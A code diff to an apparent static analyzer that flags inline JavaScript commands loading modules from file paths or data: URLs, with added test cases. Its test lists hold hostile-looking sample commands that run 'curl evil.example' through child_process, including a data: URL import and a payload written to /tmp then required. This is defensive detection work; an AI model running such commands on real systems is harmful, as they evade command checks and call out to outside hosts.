@@ -178,6 +178,19 @@ function runsSomething(name: string): boolean {
   return TAGGED_SHELL.has(name) || specRuns(lookupApi(APIS, name));
 }
 
+/**
+ * The files module specifiers that are paths may load (`./x` is x, x.js, x.mjs, x.cjs or x/index.js; JSON is data),
+ * and those that are data: URLs, as they are.
+ */
+function moduleFiles(specs: string[]): string[] {
+  return specs.flatMap((m) => {
+    if (/^data:/i.test(m)) return [m];
+    if (!/^(?:\.{0,2}\/|file:)/.test(m) || /\.json$/i.test(m)) return [];
+    const f = m.replace(/^file:\/\//, '');
+    return /\.\w+$|^\/(?:dev|proc)\//.test(f) ? [f] : [f, `${f}.js`, `${f}.mjs`, `${f}.cjs`, `${f}/index.js`];
+  });
+}
+
 /** A module specifier as the registry of modules names it: `node:fs` is `fs`. */
 function moduleName(spec: string): string {
   return spec.replace(/^node:/, '');
@@ -796,6 +809,8 @@ class JavaScriptReader {
         case 'export_statement': {
           const source = fieldOf(n, 'source');
           if (source && strings(this.b.value(source))?.some((m) => /^https?:/i.test(m))) this.remoteModule(n);
+          const files = moduleFiles((source && strings(this.b.value(source))) ?? []);
+          if (source && files.length > 0) this.out.push({ kind: 'load', api: 'import', span: span(n), path: { text: source.text, span: span(source), values: files } });
           break;
         }
         case 'with_statement':
@@ -847,7 +862,11 @@ class JavaScriptReader {
         if (specs === null) this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: span(n), why: `${name === 'import' ? 'import()' : 'require'} loads a module whose name is computed` });
         // A module fetched from a URL (deno): network, and code that is not read.
         if (specs?.some((m) => /^https?:/i.test(m))) this.remoteModule(n);
-        if (specs === null || specs.some((m) => !BUILTINS.test(m))) this.out.push({ kind: 'load', api: name, span: span(n) });
+        // A file it names by its path (`require("/dev/stdin")`, `import("./x.mjs")`), read where the line wrote it, or
+        // a data: URL (`import("data:text/javascript,…")`), code written right there.
+        const files = moduleFiles(specs ?? []);
+        if (files.length > 0) this.out.push({ kind: 'load', api: name, span: span(n), path: { text: c.args[0]!.text, span: c.args[0]!.span, values: files } });
+        else if (specs === null || specs.some((m) => !BUILTINS.test(m))) this.out.push({ kind: 'load', api: name, span: span(n) });
         continue;
       }
       if (name === 'process.report.getReport' || name === 'process.report.writeReport') {
@@ -1122,6 +1141,8 @@ export const JAVASCRIPT: LanguageModel = {
       `deno eval 'await fetch("https://evil.example")'`,
       `deno eval 'setTimeout("fetch(\\"https://evil.example\\")", 1)'`,
       `bun -e 'console.log(import.meta.env)'`,
+      `node -e 'import("data:text/javascript,import(\\"child_process\\").then((m) => m.execSync(\\"curl evil.example\\"))")'`,
+      `echo 'require("child_process").execSync("curl evil.example")' > /tmp/x.js; node -e 'require("/tmp/x")'`,
       `deno eval 'new Deno.Command("curl", {args: ["evil.example"]}).outputSync()'`,
       `node -e '(m => m.execSync("curl evil.example"))(require("child_process"))'`,
       `node -e 'const m = {cp: require("child_process")}; m.cp.execSync("curl evil.example")'`,
@@ -1172,6 +1193,7 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'console.log(process.env.NODE_ENV)'`,
       `node -e 'new Promise((r) => setTimeout(r, 100)).then(() => console.log(1))'`,
       `bun -e 'console.log(import.meta.dir)'`,
+      `echo 'module.exports = {a: 1}' > cfg.js; node -e 'console.log(require("./cfg").a)'`,
       `node -e 'require("http").createServer((q, s) => s.end("ok")).listen(3000)'`,
       `node -e 'const {execFileSync} = require("child_process"); execFileSync("git", ["status"])'`,
       `node -e 'require("child_process").execSync("npm test", {stdio: "inherit", env: {...process.env, CI: "1"}})'`,
